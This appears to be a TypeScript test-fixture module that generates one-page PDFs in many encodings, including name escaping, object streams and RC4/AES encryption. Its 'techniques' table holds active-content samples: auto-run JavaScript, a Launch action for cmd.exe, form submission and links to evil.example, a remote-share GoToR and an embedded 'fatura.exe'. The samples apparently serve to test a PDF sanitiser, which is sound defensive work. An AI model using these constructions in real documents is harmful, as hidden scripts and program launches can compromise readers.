import { createCipheriv, createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { bytesOf, concatenate } from '../bytes.ts';
import { rc4 } from '../pdf/hashes.ts';

/** An object's text, or the text of a stream's dictionary (without `Length`) and its bytes. */
type Body = string | { dictionary: string; data: Uint8Array };

/** What a one-page PDF contains besides its page. */
export interface Extras {
  /** Catalog entries, page entries, and annotations of the page. */
  catalog?: string;
  page?: string;
  annotations?: readonly string[];
  /** Additional objects by number, from 10. */
  objects?: Readonly<Record<number, Body>>;
}

const ciphers = ['rc4_40', 'rc4_128', 'aes_128', 'aes_256'] as const;
type Cipher = (typeof ciphers)[number];

export const encodings = [
  'plain',
  'escaped_names',
  'object_streams',
  'hex_object_streams',
  'no_cross_references',
  'update',
  ...ciphers,
] as const;
export type Encoding = (typeof encodings)[number];

const isCipher = (encoding: Encoding): encoding is Cipher => ciphers.some((each) => each === encoding);

const content = 'BT /F1 18 Tf 20 150 Td (Recibo de vencimento) Tj ET\n0.5 0.25 0 rg 20 20 100 0.0000001 re f';

function pageObjects({ catalog = '', page = '', annotations = [], objects = {} }: Extras): Map<number, Body> {
  const bodies: [number, Body][] = [
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [
      3,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R /AA 5 0 R /EF 5 0 R >> >> /Annots [${annotations.join(' ')}] ${page} >>`,
    ],
    [4, { dictionary: '/Filter /FlateDecode', data: deflateSync(content) }],
    [5, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
    [6, '<< /Producer (Morada \\(testes\\)) >>'],
  ];
  return new Map([
    ...bodies,
    ...Object.entries(objects).map(([number, body]): [number, Body] => [Number(number), body]),
  ]);
}

const escapeNames = (text: string): string =>
  text.replace(/\((?:[^()\\]|\\.)*\)|\/[A-Za-z0-9_.]+/g, (token) =>
    token.startsWith('(')
      ? token
      : `/${[...token.slice(1)].map((each, index) => (index % 2 === 0 ? `#${each.charCodeAt(0).toString(16)}` : each)).join('')}`,
  );

const mapText = (body: Body, map: (text: string) => string): Body =>
  typeof body === 'string' ? map(body) : { ...body, dictionary: map(body.dictionary) };

function render(number: number, body: Body): Uint8Array {
  if (typeof body === 'string') return bytesOf(`${number} 0 obj\n${body}\nendobj\n`);
  const head = bytesOf(`${number} 0 obj\n<< ${body.dictionary} /Length ${body.data.length} >>\nstream\n`);
  return concatenate([head, body.data, bytesOf('\nendstream\nendobj\n')]);
}

const md5 = (...parts: readonly Uint8Array[]) => new Uint8Array(createHash('md5').update(concatenate(parts)).digest());
const cbc = (bits: 128 | 256, key: Uint8Array, iv: Uint8Array, data: Uint8Array, pads = true) => {
  const cipher = createCipheriv(`aes-${bits}-cbc`, key, iv).setAutoPadding(pads);
  return concatenate([cipher.update(data), cipher.final()]);
};
const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const id = new Uint8Array(16).fill(7);
const hex = (bytes: Uint8Array) => `<${Buffer.from(bytes).toString('hex')}>`;

/** The hash of revision 6 for the empty password. */
function hash6(salt: Uint8Array): Uint8Array {
  let key: Uint8Array = createHash('sha256').update(salt).digest();
  for (let round = 0, last = 0; round < 64 || last > round - 32; round++) {
    const encrypted = cbc(128, key.subarray(0, 16), key.subarray(16, 32), concatenate(Array(64).fill(key)), false);
    const rest = Number(BigInt(`0x${Buffer.from(encrypted.subarray(0, 16)).toString('hex')}`) % 3n);
    key = createHash(['sha256', 'sha384', 'sha512'][rest] ?? '')
      .update(encrypted)
      .digest();
    last = encrypted.at(-1) ?? 0;
  }
  return key.subarray(0, 32);
}

/** Returns an encryption dictionary for the empty user password, and the function that encrypts an object's data. */
function encryption(cipher: Cipher): { dictionary: string; encrypt: (number: number, data: Uint8Array) => Uint8Array } {
  const owner = new Uint8Array(cipher === 'aes_256' ? 48 : 32).fill(9);
  const iv = new Uint8Array(16).fill(3);
  if (cipher === 'aes_256') {
    const key = new Uint8Array(32).fill(5);
    const [proofSalt, keySalt] = [new Uint8Array(8).fill(1), new Uint8Array(8).fill(2)];
    const user = concatenate([hash6(proofSalt), proofSalt, keySalt]);
    const userKey = cbc(256, hash6(keySalt), new Uint8Array(16), key, false);
    const access = Uint8Array.from([252, 255, 255, 255, 255, 255, 255, 255, 0x54, 0x61, 0x64, 0x62, 0, 0, 0, 0]);
    const ecb = createCipheriv('aes-256-ecb', key, null).setAutoPadding(false);
    const permissions = concatenate([ecb.update(access), ecb.final()]);
    return {
      dictionary: `<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O ${hex(owner)} /U ${hex(user)} /OE ${hex(new Uint8Array(32))} /UE ${hex(userKey)} /Perms ${hex(permissions)} /StmF /StdCF /StrF /StdCF /CF << /StdCF << /CFM /AESV3 /Length 32 >> >> >>`,
      encrypt: (_number, data) => concatenate([iv, cbc(256, key, iv, data)]),
    };
  }
  const bytes = cipher === 'rc4_40' ? 5 : 16;
  let key = md5(padding, owner, Uint8Array.from([252, 255, 255, 255]), id);
  if (bytes > 5) for (let round = 0; round < 50; round++) key = md5(key);
  key = key.subarray(0, bytes);
  let user: Uint8Array = rc4(key, bytes === 5 ? padding : md5(padding, id));
  if (bytes > 5)
    for (let round = 1; round < 20; round++)
      user = rc4(
        key.map((byte) => byte ^ round),
        user,
      );
  const keyOf = (number: number, salt: string) =>
    md5(key, Uint8Array.from([number, number >> 8, number >> 16, 0, 0]), bytesOf(salt)).subarray(
      0,
      Math.min(16, bytes + 5),
    );
  const proof = hex(concatenate([user, new Uint8Array(32)]).subarray(0, 32));
  const entries = { rc4_40: '/V 1 /R 2', rc4_128: '/V 2 /R 3 /Length 128', aes_128: '/V 4 /R 4 /Length 128' }[cipher];
  const filters = '/StmF /StdCF /StrF /StdCF /CF << /StdCF << /CFM /AESV2 /Length 16 >> >>';
  return {
    dictionary: `<< /Filter /Standard ${entries} /P -4 /O ${hex(owner)} /U ${proof} ${cipher === 'aes_128' ? filters : ''} >>`,
    encrypt: (number, data) =>
      cipher === 'aes_128'
        ? concatenate([iv, cbc(128, keyOf(number, 'sAlT'), iv, data)])
        : rc4(keyOf(number, ''), data),
  };
}

/** Packs objects without streams into one object stream and writes a cross-reference stream. */
function packed(bodies: ReadonlyMap<number, Body>, isHex: boolean, cipher?: ReturnType<typeof encryption>): Uint8Array {
  const plain = [...bodies].filter((entry): entry is [number, string] => typeof entry[1] === 'string');
  let offset = 0;
  const heads = plain.map(([number, text]) => {
    const head = `${number} ${offset}`;
    offset += text.length + 1;
    return head;
  });
  const first = `${heads.join(' ')}\n`;
  const deflated = deflateSync(Buffer.from(first + plain.map(([, text]) => text).join('\n'), 'latin1'));
  const data = isHex ? bytesOf(`${deflated.toString('hex')}>`) : deflated;
  const container = 900;
  const filter = isHex ? '[/ASCIIHexDecode /FlateDecode]' : '/FlateDecode';
  const objects = { dictionary: `/Type /ObjStm /N ${plain.length} /First ${first.length} /Filter ${filter}`, data };
  const streams = [...bodies].filter((entry): entry is [number, Exclude<Body, string>] => typeof entry[1] !== 'string');
  const all: readonly [number, Exclude<Body, string>][] = [...streams, [container, objects]];
  const written = all.map(([number, body]): [number, Body] => [
    number,
    cipher ? { ...body, data: cipher.encrypt(number, body.data) } : body,
  ]);
  if (cipher) written.push([901, cipher.dictionary]);
  const parts: Uint8Array[] = [bytesOf('%PDF-1.7\n')];
  const rows = new Map<number, readonly [number, number, number]>([[0, [0, 0, 65535]]]);
  for (const [number, body] of written) {
    rows.set(number, [1, parts.reduce((sum, { length }) => sum + length, 0), 0]);
    parts.push(render(number, body));
  }
  plain.forEach(([number], index) => {
    rows.set(number, [2, container, index]);
  });
  const at = parts.reduce((sum, { length }) => sum + length, 0);
  rows.set(902, [1, at, 0]);
  const numbers = [...rows.keys()].sort((a, b) => a - b);
  const table = numbers.flatMap((number) => {
    const [kind, place, last] = rows.get(number) ?? [0, 0, 0];
    return [kind, place >> 16, (place >> 8) & 255, place & 255, last >> 8, last & 255];
  });
  const index = numbers.map((number) => `${number} 1`).join(' ');
  const dictionary = `/Type /XRef /W [1 3 2] /Index [${index}] /Size 903 /Root 1 0 R /Info 6 0 R /ID [${hex(id)} ${hex(id)}] ${cipher ? '/Encrypt 901 0 R' : ''} /Filter /FlateDecode`;
  parts.push(render(902, { dictionary, data: deflateSync(Uint8Array.from(table)) }));
  return concatenate([...parts, bytesOf(`startxref\n${at}\n%%EOF\n`)]);
}

function tabled(
  bodies: ReadonlyMap<number, Body>,
  trailer = '',
  before: Uint8Array = bytesOf('%PDF-1.7\n'),
): Uint8Array {
  const parts: Uint8Array[] = [before];
  const sections: string[] = [];
  for (const [number, body] of bodies) {
    const at = parts.reduce((sum, { length }) => sum + length, 0);
    sections.push(`${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`);
    parts.push(render(number, body));
  }
  const at = parts.reduce((sum, { length }) => sum + length, 0);
  const end = `xref\n${sections.join('')}trailer\n<< /Size 1000 /Root 1 0 R /Info 6 0 R /ID [${hex(id)} ${hex(id)}] ${trailer} >>\nstartxref\n${at}\n%%EOF\n`;
  return concatenate([...parts, bytesOf(end)]);
}

/** Builds a one-page PDF with extras in one of the encodings. */
export function buildPdf(extras: Extras = {}, encoding: Encoding = 'plain'): Uint8Array<ArrayBuffer> {
  return Uint8Array.from(written(extras, encoding));
}

function written(extras: Extras, encoding: Encoding): Uint8Array {
  const bodies = pageObjects(extras);
  if (encoding === 'object_streams' || encoding === 'hex_object_streams')
    return packed(bodies, encoding === 'hex_object_streams');
  if (encoding === 'escaped_names')
    return tabled(new Map([...bodies].map(([number, body]) => [number, mapText(body, escapeNames)])));
  if (encoding === 'no_cross_references') {
    const whole = tabled(bodies);
    const at = Buffer.from(whole).lastIndexOf('startxref');
    return concatenate([whole.subarray(0, at), bytesOf('startxref\n99\n%%EOF\n')]);
  }
  if (encoding === 'update') {
    const first = tabled(pageObjects({}));
    const previous = Buffer.from(first).lastIndexOf('\nxref') + 1;
    const changed = new Map([...bodies].filter(([number]) => number === 1 || number === 3 || number >= 10));
    return tabled(changed, `/Prev ${previous}`, first);
  }
  if (!isCipher(encoding)) return tabled(bodies);
  const cipher = encryption(encoding);
  if (encoding === 'aes_256') return packed(bodies, false, cipher);
  const encrypted = [...bodies].map(([number, body]): [number, Body] => {
    const text = mapText(body, (each) =>
      each.replace(/\(((?:[^()\\]|\\.)*)\)/g, (_, inner: string) =>
        hex(cipher.encrypt(number, bytesOf(inner.replace(/\\(.)/g, '$1')))),
      ),
    );
    return [number, typeof text === 'string' ? text : { ...text, data: cipher.encrypt(number, text.data) }];
  });
  return tabled(new Map([...encrypted, [901, cipher.dictionary]]), '/Encrypt 901 0 R');
}

/** An attached file: its stream as object 10, its specification as object 11. */
const attachment = {
  10: { dictionary: '/Type /EmbeddedFile', data: bytesOf('MZ an attached program') },
  11: '<< /Type /Filespec /F (fatura.exe) /UF (fatura.exe) /EF << /F 10 0 R >> >>',
} as const;
const box = '/Type /Annot /Rect [20 20 60 60]';
const appearance = {
  12: { dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 40 40]', data: bytesOf('1 0 0 rg 0 0 40 40 re f') },
} as const;
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** Kinds of active content by name; each renders the same page. */
export const techniques: Readonly<Record<string, Extras>> = {
  'JavaScript when it opens': { catalog: `/OpenAction ${script}` },
  'JavaScript by reference': {
    catalog: '/OpenAction 10 0 R',
    objects: {
      10: '<< /S 11 0 R /JS 12 0 R >>',
      11: '/JavaScript',
      12: { dictionary: '', data: bytesOf('app.alert(1)') },
    },
  },
  'JavaScript of the document': { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
  'JavaScript when the page opens': { page: `/AA << /O ${script} >>` },
  'JavaScript when it is closed': { catalog: `/AA << /WC ${script} >>` },
  'JavaScript after a link': {
    annotations: [`<< ${box} /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >> >>`],
  },
  'JavaScript of a field': {
    catalog: '/AcroForm << /Fields [10 0 R] >>',
    annotations: ['10 0 R'],
    objects: { 10: `<< ${box} /Subtype /Widget /FT /Tx /T (nome) /AA << /K ${script} >> >>` },
  },
  'JavaScript of a bookmark': {
    catalog: '/Outlines 10 0 R',
    objects: { 10: '<< /First 11 0 R /Last 11 0 R /Count 1 >>', 11: `<< /Title (Um) /Parent 10 0 R /A ${script} >>` },
  },
  'JavaScript as an address': {
    annotations: [`<< ${box} /Subtype /Link /A << /S /URI /URI (java script:app.alert\\(1\\)) >> >>`],
  },
  'an address that opens by itself': { catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' },
  'an address on another computer': {
    annotations: [`<< ${box} /Subtype /Link /A << /S /URI /URI (file://evil/share/a.exe) >> >>`],
  },
  'a program that is launched': { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' },
  'a launch behind a link': { annotations: [`<< ${box} /Subtype /Link /A << /S /Launch /F (a.exe) >> >>`] },
  'a form that is sent': {
    annotations: [`<< ${box} /Subtype /Widget /FT /Btn /T (b) /A << /S /SubmitForm /F (https://evil.example/) >> >>`],
  },
  'data that are imported': { page: '/AA << /O << /S /ImportData /F (a.fdf) >> >>' },
  'a page of another file': { catalog: '/OpenAction << /S /GoToR /F (//evil/a.pdf) /D [0 /Fit] >>' },
  'a page of an attachment': { annotations: [`<< ${box} /Subtype /Link /A << /S /GoToE /T << /R /C /N (a) >> >> >>`] },
  'an attachment': { catalog: '/Names << /EmbeddedFiles << /Names [(a) 11 0 R] >> >>', objects: attachment },
  'an associated file': { catalog: '/AF [11 0 R]', objects: attachment },
  'an attachment on the page': {
    annotations: [`<< ${box} /Subtype /FileAttachment /FS 11 0 R /AP << /N 12 0 R >> >>`],
    objects: { ...attachment, ...appearance },
  },
  'a portfolio': {
    catalog: '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) 11 0 R] >> >>',
    objects: attachment,
  },
  'an XFA form': {
    catalog: '/AcroForm << /Fields [] /XFA [(template) 10 0 R] >>',
    objects: { 10: { dictionary: '', data: bytesOf('<template><script>app.alert(1)</script></template>') } },
  },
  'rich media': {
    annotations: [
      `<< ${box} /Subtype /RichMedia /AP << /N 12 0 R >> /RichMediaContent << /Assets << /Names [(a) 11 0 R] >> >> >>`,
    ],
    objects: { ...attachment, ...appearance },
  },
  'a film': { annotations: [`<< ${box} /Subtype /Screen /A << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> >>`] },
  'a stream whose content is elsewhere': {
    annotations: [`<< ${box} /Subtype /Stamp /AP << /N 12 0 R >> >>`],
    objects: {
      12: {
        dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 40 40] /F (https://evil.example/a)',
        data: bytesOf(''),
      },
    },
  },
};

/** Harmless content that stays: a link, a bookmark, a field with its value, an initial page. */
export const harmless: Extras = {
  catalog:
    '/OpenAction [3 0 R /Fit] /AcroForm << /Fields [10 0 R] >> /Outlines 11 0 R /PageLabels << /Nums [0 << /S /D >>] >>',
  annotations: [
    '10 0 R',
    `<< ${box} /Subtype /Link /A << /S /URI /URI (https://www.banco.example/conta) >> >>`,
    `<< ${box} /Subtype /Link /A << /S /URI /URI (www.banco.example) >> >>`,
    `<< ${box} /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> >>`,
  ],
  objects: {
    10: `<< ${box} /Subtype /Widget /FT /Tx /T (nome) /V (Ana) /AP << /N 12 0 R >> >>`,
    11: '<< /First 13 0 R /Last 13 0 R /Count 1 >>',
    ...appearance,
    13: '<< /Title (Um) /Parent 11 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>',
  },
};

/** Builds a PDF with a signature that covers all of it; the signer is not verified. */
export function signedPdf(extras: Extras = {}): Uint8Array<ArrayBuffer> {
  const contents = `30${'82'.repeat(255)}`;
  const range = '/ByteRange [0 1000000 2000000 3000000]';
  const pdf = buildPdf({
    ...extras,
    catalog: `/AcroForm << /Fields [20 0 R] /SigFlags 3 >> ${extras.catalog ?? ''}`,
    objects: {
      ...extras.objects,
      20: '<< /FT /Sig /T (Assinatura) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /V 21 0 R >>',
      21: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${range} /Contents <${contents}> >>`,
    },
  });
  const text = Buffer.from(pdf).toString('latin1');
  const start = text.indexOf(`<${contents}>`);
  const end = start + contents.length + 2;
  const covered = `/ByteRange [0 ${start} ${end} ${text.length - end}]`.padEnd(range.length);
  return bytesOf(text.replace(range, covered));
}
